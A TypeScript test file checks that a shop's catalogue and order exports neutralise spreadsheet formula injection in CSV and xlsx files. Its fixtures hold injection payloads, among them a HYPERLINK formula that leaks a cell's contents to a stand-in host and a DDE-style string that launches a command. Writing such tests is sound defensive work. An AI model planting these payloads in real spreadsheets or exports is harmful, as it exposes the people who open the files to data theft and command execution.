import { parse as parseCsv } from 'csv-parse/sync';
import { asc, eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importColumns } from '../../src/schemas/catalog-import.ts';
import { orderLines, orders, products } from '../../src/server/db/schema.ts';
import { demoAccounts } from '../../src/server/db/seed/index.ts';
import { packInStock, paidOrder } from '../helpers/orders.ts';
import { createTestContext, type TestContext } from '../helpers/test-context.ts';

let ctx: TestContext;
let admin: string;
beforeAll(async () => {
  ctx = await createTestContext();
  admin = await ctx.sessionFor(demoAccounts.admin.phone);
});
afterAll(() => ctx.close());

/**
 * Text a spreadsheet program would run: a formula, a sign, a mention and their full-width forms (a leading
 * tab or CR is neutralised too, see sheet-cells.test.ts, but an import trims it as it trims every cell).
 */
const hostile = {
  nameEn: '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
  nameZh: '-铁红（负号开头）',
  specificationEn: '@SUM(1+1)*cmd|" /C calc"!A0',
  specificationZh: '＝１＋１',
  chemistryEn: '+86 138 0013 8000',
  chemistryZh: '－铁氧化物',
  originEn: '＋86 21 5555 0000',
  originZh: "'=quoted already",
} as const;

const later = () => {
  ctx.clock.now = new Date(ctx.clock.now.getTime() + 5_000);
};

async function exportCatalogue(format: 'xlsx' | 'csv'): Promise<Uint8Array> {
  later();
  const response = await ctx.app.request('/api/admin/catalog/export', {
    method: 'POST',
    headers: { 'content-type': 'application/json', accessToken: admin },
    body: JSON.stringify({ format, template: false }),
  });
  expect(response.status).toBe(200);
  return new Uint8Array(await response.arrayBuffer());
}

async function xlsxRows(bytes: Uint8Array): Promise<string[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
  const rows: string[][] = [];
  workbook.worksheets[0]!.eachRow((row) => {
    // A formula cell reads as an object, never as its text: only text cells compare equal to strings.
    rows.push((row.values as unknown[]).slice(1).map((value) => (typeof value === 'string' ? value : JSON.stringify(value ?? ''))));
  });
  return rows;
}

describe('the catalogue export', () => {
  let productCode: string;
  beforeAll(async () => {
    const [product] = await ctx.db.select({ id: products.id, code: products.code }).from(products).orderBy(asc(products.id)).limit(1);
    productCode = product!.code;
    await ctx.db.update(products).set(hostile).where(eq(products.id, product!.id));
  });

  const column = (key: string) => importColumns.findIndex((entry) => entry.key === key);

  it('puts a single quote before every CSV cell a spreadsheet would run; the xlsx holds them as text, which never runs', async () => {
    const csv: string[][] = parseCsv(new TextDecoder().decode(await exportCatalogue('csv')), { bom: true, relax_column_count: true });
    const xlsx = await xlsxRows(await exportCatalogue('xlsx'));
    for (const [rows, quote] of [
      [csv, "'"],
      [xlsx, ''],
    ] as const) {
      const row = rows.find((cells) => cells[column('productCode')] === productCode)!;
      expect(row).toBeDefined();
      for (const [key, text] of Object.entries(hostile)) expect(row[column(key)], key).toBe(`${quote}${text}`);
      // Nothing else changes: the headers and the ordinary cells are written as they are.
      expect(rows[1]).toEqual(importColumns.map((entry) => entry.key));
      expect(row[column('productCode')]).toBe(productCode);
    }
  });

  it('reads back exactly: importing the export finds nothing changed', async () => {
    for (const format of ['csv', 'xlsx'] as const) {
      later();
      const form = new FormData();
      form.append('file', new Blob([new Uint8Array(await exportCatalogue(format))]), `catalogue.${format}`);
      const response = await ctx.app.request(
        '/api/admin/catalog/import/preview',
        { method: 'POST', headers: { accessToken: admin, 'accept-language': 'en' }, body: form },
        { clientAddress: '127.0.0.1' },
      );
      const previewed = (await response.json()) as { code: string; data: { errors: unknown[]; changes: unknown[] } };
      expect(previewed.code, format).toBe('000000');
      expect(previewed.data.errors, format).toEqual([]);
      expect(previewed.data.changes, format).toEqual([]);
    }
  });
});

describe("a customer's order export", () => {
  it('puts a single quote before every CSV cell a spreadsheet would run; the xlsx holds them as text', async () => {
    const order = await paidOrder(ctx, await packInStock(ctx));
    const [stored] = await ctx.db.select({ id: orders.id, createdAt: orders.createdAt }).from(orders).where(eq(orders.orderNo, order.orderNo));
    await ctx.db
      .update(orderLines)
      .set({ productNameZh: '=1+1', productNameEn: '=1+1', skuLabelZh: '＠A1', skuLabelEn: '＠A1' })
      .where(eq(orderLines.orderId, stored!.id));
    const day = new Date(stored!.createdAt.getTime() + 8 * 3_600_000).toISOString().slice(0, 10);
    const download = (format: 'csv' | 'xlsx') =>
      ctx.app.request('/api/portal/order/export', {
        method: 'POST',
        headers: { 'content-type': 'application/json', accessToken: order.token },
        body: JSON.stringify({ format, from: day, to: day }),
      });

    const [, csvRow]: string[][] = parseCsv(await (await download('csv')).text(), { bom: true });
    const [, xlsxRow] = await xlsxRows(new Uint8Array(await (await download('xlsx')).arrayBuffer()));
    expect(csvRow![0]).toBe(order.orderNo);
    expect([csvRow![3], csvRow![4]]).toEqual(["'=1+1", "'＠A1"]);
    expect(xlsxRow![0]).toBe(order.orderNo);
    expect([xlsxRow![3], xlsxRow![4]]).toEqual(['=1+1', '＠A1']);
  });
});
